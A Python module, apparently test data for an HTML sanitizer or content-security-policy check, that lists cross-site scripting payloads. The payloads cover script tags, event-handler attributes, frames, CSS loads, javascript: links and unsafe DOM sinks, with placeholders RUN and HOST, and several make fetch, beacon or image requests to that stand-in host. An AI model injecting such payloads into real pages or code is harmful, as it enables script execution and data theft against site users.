"""What an attacker who can write into a page would try.

RUN stands for code that tells of itself, HOST for another host.
"""

# Markup that runs, or asks the other host, by itself.
MARKUP = {
    "inline-script": "<script>RUN</script>",
    "module-script": "<script type=module>RUN</script>",
    "script-with-nonce": "<script nonce=abc>RUN</script>",
    "data-script": "<script src='data:text/javascript,RUN'></script>",
    "data-module": "<script type=module src='data:text/javascript,RUN'></script>",
    "imported-data": "<script type=module>import 'data:text/javascript,RUN'</script>",
    "script-of-host": "<script src=HOST></script>",
    "image-error": "<img src=x: onerror=RUN>",
    "image-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=RUN onerror=RUN>",
    "svg-load": "<svg onload=RUN></svg>",
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-data-script": "<svg><script href='data:text/javascript,RUN'></script></svg>",
    "svg-animation": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "input-focus": "<input onfocus=RUN autofocus>",
    "details-toggle": "<details open ontoggle=RUN>x</details>",
    "source-error": "<video><source src=x: onerror=RUN></video>",
    "style-load": "<style onload=RUN>x{}</style>",
    "animation-start": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=RUN>x</p>",
    "shadow-root": "<p><template shadowrootmode=open><img src=x: onerror=RUN></template></p>",
    "frame-javascript": "<iframe src='javascript:RUN'></iframe>",
    "frame-document": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "frame-data": "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "frame-of-host": "<iframe src=HOST></iframe>",
    "object-data": "<object data='data:text/html,<script>RUN</script>'></object>",
    "object-of-host": "<object data=HOST></object>",
    "embed-data": "<embed src='data:text/html,<script>RUN</script>'>",
    "embed-of-host": "<embed src=HOST>",
    "style-of-host": "<link rel=stylesheet href=HOST>",
    "style-import": "<style>@import 'HOST';</style>",
    "style-element": "<style>#style-element{background:url(HOST)}</style><p id=style-element>x</p>",
    "style-attribute": "<p style='background:url(HOST)'>x</p>",
    "image-of-host": "<img src=HOST>",
    "video-of-host": "<video src=HOST autoplay></video>",
    "inline-fetch": "<script>fetch('HOST')</script>",
}
# Markup of which the element named like it has to be clicked.
CLICKED = {
    "handler": "<b id=handler onclick=RUN>x</b>",
    "javascript-link": "<a id=javascript-link href='javascript:RUN'>x</a>",
    "svg-link": "<svg><a id=svg-link xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "javascript-form": "<form action='javascript:RUN'><button id=javascript-form>x</button></form>",
    "javascript-button": "<form><button id=javascript-button formaction='javascript:RUN'>x</button></form>",
}
# What a careless script of the page would do with an attacker's text.
SINKS = {
    "inner-html": "article.innerHTML += `<img src=x: onerror='RUN'>`",
    "outer-html": "article.lastElementChild.outerHTML = `<img src=x: onerror='RUN'>`",
    "adjacent-html": "article.insertAdjacentHTML('beforeend', `<img src=x: onerror='RUN'>`)",
    "fragment": "article.append(document.createRange().createContextualFragment(`<script>RUN</script>`))",
    "parser": "article.append(new DOMParser().parseFromString(`<img src=x: onerror='RUN'>`, 'text/html').body)",
    "frame-sink": "article.append(Object.assign(document.createElement('iframe'), { srcdoc: `<script>RUN</script>` }))",
    "script-text": "article.append(Object.assign(document.createElement('script'), { text: `RUN` }))",
    "script-address": "article.append(Object.assign(document.createElement('script'), { src: 'HOST' }))",
    "handler-attribute": "article.setAttribute('onclick', `RUN`); article.click()",
    "eval": "eval(`RUN`)",
    "function": "new Function(`RUN`)()",
    "timer": "setTimeout(`RUN`)",
    "import": "import(`data:text/javascript,RUN`).catch(() => {})",
    "javascript-address": "location.href = `javascript:RUN`",
    "image-sink": "new Image().src = 'HOST'",
    "fetch": "fetch('HOST').catch(() => {})",
    "beacon": "navigator.sendBeacon('HOST')",
}
# These leave the page or change all its addresses, so each has a page for itself: markup and what is clicked in it.
ALONE = {
    "base": ("<base href='HOST/of/all/'><img src=here>", None),
    "form-of-host": ("<form action=HOST><button id=form-of-host>x</button></form>", "form-of-host"),
}
